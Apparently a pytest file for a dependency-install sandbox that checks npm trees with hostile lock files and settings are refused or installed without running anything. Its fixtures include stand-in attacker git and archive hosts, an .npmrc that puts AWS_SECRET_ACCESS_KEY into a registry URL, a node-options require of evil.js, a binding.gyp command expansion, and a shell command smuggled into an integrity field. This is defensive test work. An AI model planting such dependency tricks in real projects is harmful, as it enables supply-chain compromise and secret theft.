"""Row 1, with npm: whatever a tree declares, installing it runs nothing and asks only the user's registry."""

import base64
import hashlib
import json
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.code.package.trees import write
from tests.security.bait import SECRET, TOKEN, Machine, machine, npm_files
from workbench.code.dependencies.declared import find_declaration
from workbench.code.dependencies.npm import preview
from workbench.code.dependencies.store import Installed, Target
from workbench.core.errors import WorkbenchError
from workbench.core.jobs import JobContext

pytestmark = pytest.mark.skipif(not shutil.which("npm"), reason="npm is not on this computer")
Lock = dict[str, dict[str, object]]
Tree = Callable[[Machine], dict[str, str]]
EVIL_GIT = "git+@EVIL@/x.git"
SCRIPTS = dict.fromkeys(("preinstall", "install", "postinstall", "prepare"), "touch @RAN@/script")


@pytest.fixture
def pc(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Machine]:
    with machine(tmp_path, monkeypatch) as made:
        write(tmp_path / "outside", {"package.json": '{"name": "x", "version": "1.0.0"}', "key.js": ""})
        for registry in (made.index, made.evil):
            registry.publish("b", "1.2.0")
            registry.publish(
                "grabber", dependencies={"x": made.fill(EVIL_GIT), "y": f"{made.evil.url}/y.tgz"}
            )
        yield made


def tree(
    asked: dict[str, str] | None = None,
    packages: Lock | None = None,
    *,
    about: dict[str, object] | None = None,
    version: int = 3,
    root: dict[str, object] | None = None,
    more: dict[str, str] | None = None,
    is_resolved: bool = True,
) -> Tree:
    """A tree that asks for `a` from the user's registry, and something else."""

    def make(pc: Machine) -> dict[str, str]:
        wanted = {"a": "^1.0.0", **(asked or {})}
        described: dict[str, object] = {
            "name": "fn",
            "version": "1.0.0",
            "dependencies": wanted,
            **(about or {}),
        }
        a = pc.index.publish("a", scripts={name: pc.fill(each) for name, each in SCRIPTS.items()})
        a |= {} if is_resolved else {"resolved": ""}
        locked = {"": {**described, **(root or {})}, "node_modules/a": a, **(packages or {})}
        lock = {
            "name": "fn",
            "version": "1.0.0",
            "lockfileVersion": version,
            "requires": True,
            "packages": locked,
        }
        return npm_files(described, lock, **(more or {}))

    return make


def at(resolved: str, **more: object) -> Lock:
    """A package x of the lock, from somewhere."""
    return {"node_modules/x": {"version": "1.0.0", "resolved": resolved, **more}}


def old_tree(asked: dict[str, str], locked: dict[str, object]) -> Tree:
    """A tree with a lock file of npm 6."""

    def make(pc: Machine) -> dict[str, str]:
        about = {"name": "fn", "dependencies": {"a": "^1.0.0", **asked}}
        a = pc.index.publish("a", scripts={name: pc.fill(each) for name, each in SCRIPTS.items()})
        lock = {"name": "fn", "lockfileVersion": 1, "requires": True, "dependencies": {"a": a, **locked}}
        return npm_files(about, lock)

    return make


X = {"x": "1.0.0"}
REFUSED: dict[str, tuple[Tree, str]] = {
    "a repository": (tree({"x": EVIL_GIT}, at(f"{EVIL_GIT}#0123")), "package.json takes x from git+http"),
    "a repository, and what to run for git": (
        tree({"x": EVIL_GIT}, at(f"{EVIL_GIT}#0123"), more={".npmrc": "git=@TRAPS@/make\n"}),
        "takes x from git+http",
    ),
    "a repository in the lock only": (
        tree(X, at(f"{EVIL_GIT}#0123")),
        "package-lock.json takes x from git+http",
    ),
    "a repository by ssh": (tree(X, at("git+ssh://git@@EVILHOST@/x.git#1")), "takes x from git+ssh"),
    "a repository, shortened": (
        tree({"x": "github:someone/x"}, at("git+ssh://git@github.com/someone/x.git#1")),
        "github:someone/x",
    ),
    "a repository, shorter": (
        tree({"x": "someone/x"}, at("git@github.com:someone/x.git")),
        "takes x from someone/x",
    ),
    "a repository below": (
        tree(X, {"node_modules/x": {"version": "1.0.0", "dependencies": {"y": EVIL_GIT}}}),
        "takes y from git+http",
    ),
    "a repository that is missing from the lock": (
        tree({"b": "1"}, {"node_modules/b": {"version": "1.2.0", "optionalDependencies": {"y": EVIL_GIT}}}),
        "takes y from",
    ),
    "a repository of a peer": (
        tree({"b": "1"}, {"node_modules/b": {"version": "1.2.0", "peerDependencies": {"y": EVIL_GIT}}}),
        "takes y from",
    ),
    "a repository behind another name": (tree({"x": f"npm:y@{EVIL_GIT}"}, at("")), "takes x from npm:y@git"),
    "an archive": (tree({"x": "@EVIL@/x.tgz"}, at("@EVIL@/x.tgz")), "takes x from http"),
    "an archive in the lock only": (
        tree(X, at("@EVIL@/x.tgz", integrity="sha512-AAAA")),
        "which is not one of your registries",
    ),
    "an archive without a hash": (
        tree(X, at("@EVIL@/x/-/x-1.0.0.tgz")),
        "does not exist in the registry",
    ),
    "an archive of another package": (
        tree(X, at("@EVIL@/y/-/y-1.0.0.tgz", integrity="sha512-AAAA")),
        "not one of your registries",
    ),
    "an address that is read in two ways": (
        tree(X, at("@EVIL@\\@127.0.0.1/x/-/x-1.0.0.tgz", integrity="sha512-AA")),
        "takes x from",
    ),
    "an address with a user": (
        tree(X, at("http://127.0.0.1@@EVILHOST@/x/-/x-1.0.0.tgz", integrity="sha512-AA")),
        "takes x from",
    ),
    "a folder that is not there": (
        tree({"x": "file:x"}, {"node_modules/x": {"resolved": "x", "link": True}}),
        "from a folder that does not exist",
    ),
    "a folder outside": (
        tree({"x": "file:../outside"}, {"node_modules/x": {"resolved": "../outside", "link": True}}),
        "from a folder outside the project",
    ),
    "a link to a folder outside in the lock only": (
        tree(X, {"node_modules/x": {"resolved": "../outside", "link": True}}),
        "from a folder outside the project",
    ),
    "a link without an end": (
        tree(X, {"node_modules/x": {"link": True}}),
        "from a folder that contains the code",
    ),
    "a folder by its whole path": (tree({"x": "file:@OUTSIDE@"}, at("")), "takes x from file:/"),
    "a folder of a package in the registry": (
        tree({"b": "1"}, {"node_modules/b": {"version": "1.2.0", "dependencies": {"y": "file:own"}}}),
        "takes y from file:own for b",
    ),
    "an old lock with a repository": (
        old_tree({"x": "1.0.0"}, {"x": {"version": EVIL_GIT, "from": EVIL_GIT}}),
        "does not specify a registry version",
    ),
    "an old lock with an archive": (
        old_tree({"x": "1.0.0"}, {"x": {"version": "@EVIL@/x.tgz"}}),
        "does not specify a registry version",
    ),
    "an old lock with an archive of another registry": (
        old_tree({"x": "1.0.0"}, {"x": {"version": "1.0.0", "resolved": "@EVIL@/y.tgz"}}),
        "which is not one of your registries",
    ),
    "an old lock with a name that is a path": (
        old_tree({}, {"../../x": {"version": "1.0.0"}}),
        "not in a node_modules folder",
    ),
    "an old lock with another name that is a path": (
        old_tree({}, {"x": {"version": "npm:../x@1.0.0"}}),
        "does not specify a registry version",
    ),
    "an old lock with a folder outside": (
        old_tree({}, {"x": {"version": "file:../outside"}}),
        "from a folder outside the project",
    ),
    "an old lock that is a list": (
        old_tree({}, {"x": {"version": "1.0.0", "dependencies": {"y": []}}}),
        "malformed",
    ),
    "a file": (tree({"x": "file:x.tgz"}, at("file:x.tgz")), "takes x from file:x.tgz"),
    "a file in the lock only": (tree(X, at("file:@OUTSIDE@/x.tgz")), "takes x from file:"),
    "a workspace": (tree({"x": "workspace:*"}, at("")), "takes x from workspace:*"),
    "a folder of the lock": (tree(X, {"x": {"version": "1.0.0"}}), "which is not in a node_modules folder"),
    "a place outside": (
        tree(X, {"node_modules/../../x": {"version": "1.0.0"}}),
        "not in a node_modules folder",
    ),
    "a place for programs": (
        tree(X, {"node_modules/.bin": {"version": "1.0.0"}}),
        "not in a node_modules folder",
    ),
    "a place that is not there": (
        tree(X, {"node_modules/z/node_modules/x": {"version": "1.0.0"}}),
        "does not contain node_modules/z",
    ),
    "a version that is an address": (
        tree(X, {"node_modules/x": {"version": EVIL_GIT}}),
        "does not specify a registry version",
    ),
    "a name that is a path": (
        tree(X, {"node_modules/x": {"version": "1.0.0", "name": "../x"}}),
        "does not specify a registry version",
    ),
    "a lock within a package": (
        tree(X, {"node_modules/x": {"version": "1.0.0", "hasShrinkwrap": True}}),
        "includes a lock file",
    ),
    "a lock that lacks a package": (tree({"grabber": "1"}), "does not contain grabber"),
    "a lock that lacks what a package needs": (
        tree({"b": "1"}, {"node_modules/b": {"version": "1.2.0", "dependencies": {"grabber": "1"}}}),
        "does not contain grabber, which b needs",
    ),
    "another lock": (tree(root={"dependencies": {"a": "2"}}), "does not match the current package.json"),
    "a hash that is none": (
        tree(X, at("", integrity="; touch @RAN@/hash")),
        "the integrity of x is not a hash",
    ),
}
"""Trees that are refused, and words of the refusal."""


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_tree_is_refused(pc: Machine, name: str) -> None:
    make, words = REFUSED[name]
    pc.write(make(pc))
    refusal = pc.install("nodejs22.x")
    assert pc.harm() == []
    assert isinstance(refusal, WorkbenchError), refusal
    assert words in refusal.why
    assert SECRET not in str(refusal)
    assert not list(pc.folder.glob("store/*"))


HARMLESS: dict[str, Tree] = {
    "scripts of the tree and of a package": tree(about={"scripts": SCRIPTS}),
    "a registry": tree(more={".npmrc": "registry=@EVIL@/\n"}, is_resolved=False),
    "a registry with a secret": tree(
        more={".npmrc": "registry=@EVIL@/${AWS_SECRET_ACCESS_KEY}/\n"}, is_resolved=False
    ),
    "scripts by settings": tree(more={".npmrc": "ignore-scripts=false\nscript-shell=@TRAPS@/make\n"}),
    "options of node": tree(
        more={
            ".npmrc": "node-options=--require=./evil.js\n",
            "evil.js": "require('fs').writeFileSync('@RAN@/node', '')\n",
        }
    ),
    "a proxy": tree(more={".npmrc": "proxy=@EVIL@\nhttps-proxy=@EVIL@\nnoproxy=none\n"}),
    "another home for settings": tree(
        more={".npmrc": "userconfig=./x\nglobalconfig=./x\ncache=@RAN@/cache\n", "x": "registry=@EVIL@\n"}
    ),
    "a build file": tree(more={"binding.gyp": "{'targets': [{'target_name': '<!(touch @RAN@/gyp)'}]}\n"}),
    "a shrinkwrap beside the lock": tree(
        more={"npm-shrinkwrap.json": json.dumps({"lockfileVersion": 3, "packages": {"": {}, **at(EVIL_GIT)}})}
    ),
    "engines and package managers": tree(
        about={
            "packageManager": "evil@1",
            "devEngines": {"packageManager": {"name": "evil"}},
            "config": {"registry": "@EVIL@"},
            "publishConfig": {"registry": "@EVIL@"},
        }
    ),
    "overrides": tree(about={"overrides": {"a": EVIL_GIT}}),
    "a repository for development": tree(
        about={"devDependencies": {"d": EVIL_GIT}},
        packages={"node_modules/d": {"version": "1.0.0", "resolved": f"{EVIL_GIT}#1", "dev": True}},
    ),
    "modules that are there": tree(
        more={
            "node_modules/a/package.json": json.dumps({"name": "a", "version": "1.0.0", "scripts": SCRIPTS}),
            "node_modules/.hooks/install": "#!/bin/sh\ntouch @RAN@/hook\n",
        }
    ),
    "programs outside": tree(
        asked={"b": "1"},
        packages={
            "node_modules/b": {
                "version": "1.2.0",
                "bin": {"../../../x": "index.js", "y": "../../../y", "ls": "/bin/ls"},
            }
        },
    ),
}
"""Trees with something that no tool sees; the rest is installed."""


@pytest.mark.parametrize("name", HARMLESS)
def test_what_else_lies_in_a_tree_chooses_nothing(pc: Machine, name: str) -> None:
    pc.write(HARMLESS[name](pc))
    installed = pc.install("nodejs22.x")
    assert pc.harm() == []
    assert isinstance(installed, Installed), installed
    assert ("a", "1.0.0") in installed.found.packages
    assert (installed.root / "node_modules/a/index.js").is_file()
    assert not [path for path in installed.found.paths if "/.bin/" in path]


def test_ordinary_trees_install(pc: Machine) -> None:
    """Scopes, two versions of a package, another name, what is optional or for another system, bundled."""
    publish = pc.index.publish
    a, b1, b2, scoped = (
        publish("a"),
        publish("b", "1.2.0"),
        publish("b", "2.0.0"),
        publish("@corp/s", "1.0.0-rc.1"),
    )
    inner = json.dumps({"name": "inner", "version": "1.0.0"})
    bundler = publish(
        "bundler", "1.0.0", {"node_modules/inner/package.json": inner}, bundleDependencies=["inner"]
    )
    linux, mac, width = (
        publish("linux", os=["linux"]),
        publish("mac", os=["darwin"]),
        publish("width", "4.0.0"),
    )
    arm = publish("arm", cpu=["arm64"])
    asked = {
        "a": "^1.0.0",
        "b": "~2.0.0 || 3",
        "@corp/s": "latest",
        "bundler": "1.x",
        "width-cjs": "npm:width@^4.0.0",
    }
    about: dict[str, object] = {
        "name": "fn",
        "dependencies": asked,
        "optionalDependencies": {"linux": "1", "mac": "1"},
    }
    packages: Lock = {
        "": about,
        "node_modules/a": {
            **a,
            "dependencies": {"b": "^1.0.0"},
            "optionalDependencies": {"arm": "1"},
            "bin": {"a": "index.js"},
        },
        "node_modules/a/node_modules/b": b1,
        "node_modules/b": b2,
        "node_modules/@corp/s": scoped,
        "node_modules/bundler": {**bundler, "dependencies": {"inner": "1"}},
        "node_modules/bundler/node_modules/inner": {"version": "1.0.0", "inBundle": True},
        "node_modules/linux": {**linux, "optional": True, "os": ["linux"]},
        "node_modules/mac": {**mac, "optional": True, "os": ["darwin"]},
        "node_modules/arm": {**arm, "optional": True, "cpu": ["arm64"]},
        "node_modules/width-cjs": {**width, "name": "width"},
    }  # fmt: skip
    lock = {"lockfileVersion": 3, "packages": packages}
    pc.write(npm_files(about, lock))
    installed = pc.install("nodejs22.x")
    assert isinstance(installed, Installed), installed
    assert dict(installed.found.packages).keys() == {
        "a",
        "b",
        "@corp/s",
        "bundler",
        "inner",
        "linux",
        "width-cjs",
    }
    versions = {
        path: json.loads((installed.root / path / "package.json").read_text())["version"]
        for path in ("node_modules/a/node_modules/b", "node_modules/b", "node_modules/width-cjs")
    }
    assert list(versions.values()) == ["1.2.0", "2.0.0", "4.0.0"]
    assert "node_modules/.bin/a" in installed.found.paths
    assert pc.harm() == []


@pytest.mark.parametrize("resolved", [True, False])
def test_a_lock_of_another_registry_installs_from_the_users(pc: Machine, resolved: bool) -> None:
    packages: Lock = {}
    for name in ("a", "@corp/s"):
        found = pc.index.publish(name)
        address = f"{pc.evil.url}/{name.replace('/', '%2f')}/-/{name.rpartition('/')[2]}-1.0.0.tgz"
        packages[f"node_modules/{name}"] = (
            {**found, "resolved": address} if resolved else {**found, "resolved": ""}
        )
    asked = {"a": "1", "@corp/s": "1"}
    pc.write(
        npm_files(
            {"dependencies": asked},
            {"lockfileVersion": 2, "packages": {"": {"dependencies": asked}, **packages}},
        )
    )
    installed = pc.install("nodejs22.x")
    assert isinstance(installed, Installed), installed
    assert pc.harm() == []
    assert any("/@corp/s/-/s-1.0.0.tgz" in each for each in pc.index.requests)


def test_another_archive_than_the_locked_one_is_not_installed(pc: Machine) -> None:
    wrong = pc.index.publish("b", "1.2.0", {"more.js": ""})["integrity"]
    a = {**pc.index.publish("a"), "integrity": wrong}
    pc.write(
        npm_files(
            {"dependencies": {"a": "1"}},
            {"lockfileVersion": 3, "packages": {"": {"dependencies": {"a": "1"}}, "node_modules/a": a}},
        )
    )
    refusal = pc.install("nodejs22.x")
    assert isinstance(refusal, WorkbenchError)
    assert "does not match the lock file" in refusal.why


def test_the_users_own_npmrc_names_registry_and_token(pc: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    host = pc.index.url.removeprefix("http:")
    own = f"registry={pc.index.url}/\n{host}/:_authToken=${{OWN_TOKEN}}\n@corp:registry={pc.index.url}/\n"
    (pc.folder / "home" / ".npmrc").write_text(own)
    monkeypatch.setenv("OWN_TOKEN", "token-of-the-registry")
    pc.write(tree(more={".npmrc": "@corp:registry=@EVIL@\n"})(pc))
    installed = pc.install("nodejs22.x")
    assert isinstance(installed, Installed), installed
    assert any("token-of-the-registry" in each for each in pc.index.requests)
    assert not any(TOKEN in each for each in pc.index.requests)
    assert pc.harm() == []


def test_a_lock_does_not_name_one_package_and_bring_another(pc: Machine) -> None:
    """The question shows the name in the lock, so the archive must be that package's."""
    other = pc.index.publish("b", "1.2.0", {"stolen.js": ""})
    asked = {"a": "1"}
    pc.index.publish("a")
    lie = {"version": "1.0.0", "resolved": other["resolved"], "integrity": other["integrity"]}
    pc.write(
        npm_files(
            {"dependencies": asked},
            {"lockfileVersion": 3, "packages": {"": {"dependencies": asked}, "node_modules/a": lie}},
        )
    )
    refusal = pc.install("nodejs22.x")
    assert isinstance(refusal, WorkbenchError), refusal.found.paths
    assert "does not match the lock file" in refusal.why
    assert pc.harm() == []


def _write_lock(pc: Machine, integrity: str) -> None:
    found = {**pc.index.publish("a"), "integrity": integrity}
    asked = {"a": "1"}
    lock = {"lockfileVersion": 3, "packages": {"": {"dependencies": asked}, "node_modules/a": found}}
    pc.write(npm_files({"dependencies": asked}, lock))


def _hash(pc: Machine, algorithm: str) -> str:
    path = str(pc.index.publish("a")["resolved"]).removeprefix(pc.index.url)
    data = pc.index.answer(path)
    assert data
    return f"{algorithm}-{base64.b64encode(hashlib.new(algorithm, data).digest()).decode()}"


def _notes(pc: Machine) -> tuple[str, ...]:
    target = Target("nodejs22.x")
    declared = find_declaration(pc.code, target.language)
    assert declared is not None
    scratch = pc.folder / "preview"
    scratch.mkdir(exist_ok=True)
    return preview(declared, target, scratch, JobContext()).notes


def test_an_old_lock_with_sha_1_alone_is_installed_and_the_question_says_so(pc: Machine) -> None:
    """Locks of npm 5 and older have many such packages, so they are no reason to refuse."""
    _write_lock(pc, _hash(pc, "sha1"))
    (note,) = _notes(pc)
    assert "only a SHA-1 hash of 1 package (a)" in note
    installed = pc.install("nodejs22.x")
    assert isinstance(installed, Installed), installed


def test_another_archive_than_the_one_with_the_sha_1_is_refused(pc: Machine) -> None:
    _write_lock(pc, "sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA=")
    refusal = pc.install("nodejs22.x")
    assert isinstance(refusal, WorkbenchError), refusal.found.paths
    assert "does not match the lock file" in refusal.why


def test_a_lock_with_a_better_hash_beside_sha_1_needs_no_word(pc: Machine) -> None:
    _write_lock(pc, f"{_hash(pc, 'sha1')} {_hash(pc, 'sha512')}")
    assert _notes(pc) == ()
    assert isinstance(pc.install("nodejs22.x"), Installed)


@pytest.mark.parametrize("integrity", ["sha7-AAAA", "sha224-AAAA", "md5-AAAA"])
def test_a_hash_that_npm_would_not_check_is_refused(pc: Machine, integrity: str) -> None:
    _write_lock(pc, integrity)
    refusal = pc.install("nodejs22.x")
    assert isinstance(refusal, WorkbenchError), refusal.found.paths
    assert "is not a hash" in refusal.why
